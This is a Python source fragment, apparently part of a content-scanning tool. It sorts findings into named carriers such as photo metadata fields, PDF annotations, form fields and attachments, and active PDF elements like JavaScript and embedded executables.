            ("IPTC", "photo-iptc"),
            ("PNG", "photo-png-text"),
            ("ICC", "photo-icc"),
            ("COM", "photo-jpeg-comment"),
            ("after the image end", "photo-trailing-bytes"),
        ):
            if key in where:
                return carrier
        return "photo-exif"
    if where.startswith(("header", "url")) or finding.label == "file-name":
        return "file-names-urls-headers"
    if "figcaption" in where or "img@alt" in where:
        return "caption"
    return f"text-{text_kind(finding)}"


TEXT_CARRIERS = [f"text-{kind}" for kind in TEXT_KINDS]
PHOTO_CARRIERS = [
    "photo-exif",
    "photo-gps",
    "photo-xmp",
    "photo-iptc",
    "photo-png-text",
    "photo-icc",
    "photo-jpeg-comment",
    "photo-trailing-bytes",
]
PDF_CARRIERS = [
    "pdf-image-exif",
    "pdf-image-gps",
    "pdf-image-xmp",
    "pdf-image-comment",
    "pdf-image-custom-key",
    "pdf-annotation",
    "pdf-form-field",
    "pdf-file-attachment",
    "pdf-link-uri",
    "pdf-page-custom-key",
    "pdf-content-comment",
    "pdf-actualtext",
    "pdf-visible-text",
    "pdf-document-level",
]
ACTIVE_CARRIERS = [
    "pdf-javascript",
    "pdf-launch",
    "pdf-submitform",
    "pdf-javascript-uri",
    "pdf-rendition",
    "pdf-embedded-exe",
    "pdf-embedded-html",
]
ACTIVE_CARRIERS.append("pdf-embedded-file")
CARRIERS = [
    *TEXT_CARRIERS,
    "caption",
    *PHOTO_CARRIERS,
    *PDF_CARRIERS,
    *ACTIVE_CARRIERS,
    "file-names-urls-headers",
]
